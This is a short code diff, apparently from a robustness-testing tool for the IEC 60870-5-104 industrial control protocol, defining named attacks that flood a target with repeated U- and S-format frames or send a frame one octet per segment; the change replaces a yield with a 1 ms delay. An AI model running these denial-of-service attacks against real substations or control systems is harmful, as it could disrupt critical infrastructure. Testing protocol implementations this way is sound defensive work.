@@ -231,13 +231,14 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
   testfr: flood(repeated(uFormat(UFunction.TESTFR_ACT), 500), 500, 2),
   startdt: flood(repeated(uFormat(UFunction.STARTDT_ACT), 500), 500, 2),
   's-format': flood(repeated(sFormat(0), 500), 500, 2),
-  /** One octet in each segment: half of a frame, the other half. */
+  /** One octet in each segment. */
   octets: (target, signal) =>
     each(target, signal, 2, async (attacker) => {
       const frame = uFormat(UFunction.TESTFR_CON);
       for (let at = 0; attacker.goesOn; at = (at + 1) % frame.length) {
         attacker.socket.write(frame.subarray(at, at + 1));
-        if (at % 2 === 0) await new Promise((resolve) => setImmediate(resolve));
+        // Without a pause a busy machine joins them again.
+        await delay(1);
       }
     }),
   /** A frame of 255 octets that never ends. */
